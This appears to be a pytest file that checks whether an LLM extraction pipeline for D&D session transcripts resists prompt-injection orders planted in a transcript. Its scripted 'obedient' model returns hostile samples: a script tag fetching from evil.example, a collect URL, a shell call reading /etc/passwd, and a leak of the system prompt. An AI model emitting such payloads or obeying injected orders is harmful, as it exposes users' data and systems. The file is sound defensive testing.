"""A transcript gives orders and the model obeys: nothing false is published, and nothing more is asked or done.

The worst outcome is a proposal that a reviewer sees, with evidence that is true, or a lane that fails.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable, Mapping
from typing import Any

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from extraction.canonical import JsonValue
from extraction.errors import NotariusError
from extraction.findings import Decision, decide
from extraction.identity import comparison_key
from extraction.lanes.job import BoundReference, LaneJob, LaneResult, Retries
from extraction.lanes.ports import LanePorts
from extraction.lanes.run import run_lane
from extraction.llm.boundary import Role, StructuredRequest
from extraction.llm.profiles import Profile
from extraction.llm.schema import response_schema
from extraction.llm.scripted import ScriptedClient
from extraction.prompts.render import UNSEEN
from extraction.registry import LANES, check_payload
from extraction.source.documents import SourceDocument
from tests.extraction import story
from tests.extraction.dnd.occurrence_cast import bound
from tests.extraction.injection.answers import answers
from tests.extraction.injection.orders import CORPUS, INNOCENT_DOCUMENT, PLACE, Hostile

FOURS = Profile(chunk_units=4, input_budget=4_000)
NPCS = "dnd/npcs"
TABLE: Mapping[str, JsonValue] = {
    "gm": {"player": "Nele", "speaker_labels": ["Game master"]},
    "party": [{"character": "Berrin", "player": "Otto", "speaker_labels": ["Berrin"], "other_names": []}],
    "glossary": [],
}
# The long form of the generated answers: NOTARIUS_TEST_ANSWERS=1000 is ten thousand over the ten lanes.
EXAMPLES = int(os.environ.get("NOTARIUS_TEST_ANSWERS", "25"))
EVERY_HOSTILE = pytest.mark.parametrize("hostile", CORPUS, ids=str)
EVERY_LANE = pytest.mark.parametrize("key", LANES)
POEM = "The sea, the sea,\nit never read a schema."


def job_of(client: ScriptedClient, document: SourceDocument, references: Mapping[str, BoundReference] = {}) -> LaneJob:
    return story.make_job(
        client, document=document, profile=FOURS, table=TABLE, references=references, retries=Retries(1, 1)
    )


def outcome(key: str, job: LaneJob) -> LaneResult | None:
    """Return what the lane published; None where it failed with an error that is one of ours."""
    try:
        return run_lane(LANES[key], job, LanePorts())
    except NotariusError:
        return None


def holds(key: str, result: LaneResult, job: LaneJob) -> None:
    """Assert what holds of every artifact: its shape and rules, evidence in the transcript, nobody of the table."""
    payload: Any = orjson.loads(orjson.dumps(dict(result.payload), default=dict))
    findings = check_payload(key, payload, job.document, job.references, job.table)
    positions = {unit.unit_id: place for place, unit in enumerate(job.document.units)}
    records = payload[LANES[key].records_key]

    assert decide(findings) is not Decision.REJECT
    for record in records:
        for ref in record.get("source_refs", [record]):
            assert positions[ref["start_unit_id"]] <= positions[ref["end_unit_id"]]
    if key in ("dnd/npcs", "dnd/items", "dnd/locations"):
        table = {comparison_key(name) for name in ("Nele", "Otto", "Berrin", "Game master")}
        assert table.isdisjoint(comparison_key(record["name"]) for record in records)


def obedient(hostile: Hostile) -> Callable[[StructuredRequest], JsonValue]:
    """Return a model that reads honestly until it is given the order, and then does as it is told."""
    honest = {"Ottilie": (100, 98), "Hask": (98, 98)}

    def answer(request: StructuredRequest) -> JsonValue:
        if request.prompt_id != story.EXTRACT:
            return _merge_all(request)
        first = story.first_unit(request)
        heard = first >= 100 - PLACE >= first - 3
        told = _told(hostile.order, request) if heard else None
        if told is not None:
            return told
        return story.npcs_reply(
            {name: [(first - 100 + start, first - 100 + end)] for name, (start, end) in honest.items()}
        )

    return answer


def _merge_all(request: StructuredRequest) -> JsonValue:
    candidates: Any = request.materials.get("candidates") or request.materials.get("registry") or []
    members = [{"name": one["name"], "source_refs": one.get("source_refs", [])} for one in candidates]
    return {"duplicate_groups": [{"members": members, "canonical": members[0]}] if len(members) > 1 else []}


def _told(order: str, request: StructuredRequest) -> JsonValue:
    system = request.messages[0].content
    replies: Mapping[str, JsonValue] = {
        "leak": story.npcs_reply({system: [(96, 96)]}),
        "cite_unknown": story.npcs_reply({"Ottilie": [(9_999, 9_999)]}),
        "cite_outside": story.npcs_reply({"Ottilie": [(100, 100)]}),
        "invent": story.npcs_reply({"Zorvathra": [(96, 96)]}),
        "markup": story.npcs_reply({"<script>fetch('//evil.example')</script>": [(96, 96)]}),
        "fetch": story.npcs_reply({"http://127.0.0.1:9/collect": [(96, 96)]}),
        "players": story.npcs_reply({name: [(96, 96)] for name in ("Nele", "Otto", "Berrin", "Game master")}),
        "prose": POEM,
        "tools": {"tool": "shell", "arguments": "cat /etc/passwd"},
    }
    return replies.get(order)


@EVERY_HOSTILE
def test_an_order_reaches_the_model_as_a_line_of_the_transcript_and_nowhere_else(hostile: Hostile) -> None:
    asked, innocent = ScriptedClient(obedient(hostile)), ScriptedClient(obedient(Hostile("merge", "plain")))
    outcome(NPCS, job_of(asked, hostile.document))
    outcome(NPCS, job_of(innocent, INNOCENT_DOCUMENT))
    pages = story.asked(asked, story.EXTRACT)
    plain = {story.first_unit(request): request for request in story.asked(innocent, story.EXTRACT)}

    assert pages
    for page in pages:
        usual = plain[story.first_unit(page)]
        assert [message.role for message in page.messages] == [message.role for message in usual.messages]
        assert [m.content for m in page.messages if m.role is Role.SYSTEM] == [
            m.content for m in usual.messages if m.role is Role.SYSTEM
        ]
        lines, expected = (_lines(request) for request in (page, usual))
        changed = [line for line, other in zip(lines, expected, strict=True) if line != other]
        assert all(line.startswith((f"[{100 - PLACE}] ", f"({100 - PLACE}) ")) for line in changed)
        assert not any(chr(sign) in line for sign in UNSEEN for line in changed)


def _lines(request: StructuredRequest) -> list[str]:
    return [line for message in request.messages for line in message.content.split("\n")]


@EVERY_HOSTILE
def test_a_model_that_obeys_publishes_nothing_false(hostile: Hostile) -> None:
    client = ScriptedClient(obedient(hostile))
    job = job_of(client, hostile.document)
    result = outcome(NPCS, job)
    pages = 3

    # Each page and the merge may be asked again once, and nothing else is asked.
    assert len(client.requests) <= (pages + 1) * 2
    assert {request.prompt_id for request in client.requests} <= {story.EXTRACT, story.RECONCILE}
    assert result is None or hostile.order not in {"cite_unknown", "cite_outside", "prose", "tools", "leak"}
    if result is not None:
        holds(NPCS, result, job)


def test_merging_on_order_shows_every_member_with_its_own_evidence() -> None:
    hostile = Hostile("merge", "plain")
    job = job_of(ScriptedClient(obedient(hostile)), hostile.document)
    result = outcome(NPCS, job)

    assert result is not None
    applied: Any = result.consolidations["applied"]
    [group] = applied
    members = {member["name"]: member["source_refs"] for member in group["members"]}
    assert set(members) == {"Ottilie", "Hask"}
    assert all(members.values())


@EVERY_LANE
def test_generated_answers_publish_only_what_the_rules_allow(key: str) -> None:
    """Ask each lane with answers of the right shape and any content."""
    lane = LANES[key]
    known = ("Ottilie", [(100, 100)]), ("Hask", [(98, 98)])
    registries = {name: bound(name, *known, source_id="ferry.s1.t1") for name in ("npcs", "items", "locations")}
    references = {name: registries[name] for name in lane.slots if name in registries}
    pages = st.lists(answers(response_schema(lane.extract.reply)), min_size=3, max_size=3)
    merge = answers(response_schema(lane.proposal.reply)) if lane.proposal else st.none()
    published = 0

    @settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=list(HealthCheck))
    @given(replies=pages, proposal=merge)
    def ask(replies: list[JsonValue], proposal: JsonValue) -> None:
        nonlocal published

        def answer(request: StructuredRequest) -> JsonValue:
            # As text, since no JSON encoder of ours writes a lone surrogate, which a model may.
            told = (100 - story.first_unit(request)) // 4 if request.prompt_id == lane.extract.prompt else None
            return json.dumps(proposal if told is None else replies[told])

        job = job_of(ScriptedClient(answer), INNOCENT_DOCUMENT, references)
        result = outcome(key, job)
        if result is not None:
            published += 1
            holds(key, result, job)

    ask()
    assert published
